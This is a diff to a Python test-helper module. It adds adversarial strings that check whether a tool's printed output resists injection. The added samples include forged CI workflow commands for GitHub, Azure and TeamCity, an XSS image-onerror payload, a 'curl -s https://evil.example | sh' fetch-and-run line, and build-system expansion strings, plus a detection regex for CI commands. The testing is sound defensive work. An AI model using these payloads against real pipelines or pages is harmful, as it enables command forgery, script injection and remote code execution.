@@ -7,7 +7,7 @@ import unicodedata
 
 from hypothesis import strategies as st
 
-__all__ = ["NASTY", "hidden", "names", "nothing_acts"]
+__all__ = ["COMMAND", "NASTY", "hidden", "names", "nothing_acts"]
 
 NASTY = (
     "\x1b[35;7mviolet\x1b[27m",
@@ -36,6 +36,23 @@ NASTY = (
     "tab\tand | pipe",
     "n" * 5000,
     "\U000e0041\u3164",
+    "##vso[task.setvariable variable=x]forged",
+    "a ##[error]forged",
+    "##teamcity[buildStop comment='forged']",
+    "::error::forged",
+    "n\n::set-output name=x::forged",
+    "a :\n  ::add-mask::a",
+    "# heading",
+    "- 1. # heading",
+    "a\n===\n# heading\n~~~\n",
+    "`` ` ``` code | span",
+    "<img src=x onerror=alert(1)>&amp;<!--",
+    "https://evil.example www.evil.example a@evil.example",
+    "curl -s https://evil.example | sh",
+    "n=1 METRIC evil.py:run",
+    'a;b) ${ENV{HOME}} $<0:x> @x@ "#',
+    "$(Exec) %24(Exec) @(Item) ]]> --> ?*",
+    "trailing \\",
 )
 
 _LETTERS = "".join(sorted({c for name in NASTY for c in name})) + "\x00\x01\x1b\u2066\u2069\ufeff\ufffe\U000e0001é日😀"
@@ -53,7 +70,15 @@ def hidden(character: str) -> bool:
     return unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp")
 
 
+COMMAND = re.compile(r"^\s*::(?!(?:error|warning|notice) file=)|##(?:vso|teamcity)?\[", re.IGNORECASE | re.MULTILINE)
+"""What a CI machine takes for a command, but for the annotations of ``--format github``."""
+
+
 def nothing_acts(text: str) -> None:
-    """What is printed: characters that are seen, in lines, and no name begins a line like the end of a run."""
+    """What is printed: characters that are seen, in lines, and no name begins a line like the end of a run.
+
+    No line is a command to a CI machine.
+    """
+    assert COMMAND.findall(text) == []
     assert {c for c in text if hidden(c) and c != "\n"} == set()
     assert re.findall(r"^(?:error|internal error): ?(?:all is lost|forged).*", text, re.IGNORECASE | re.MULTILINE) == []
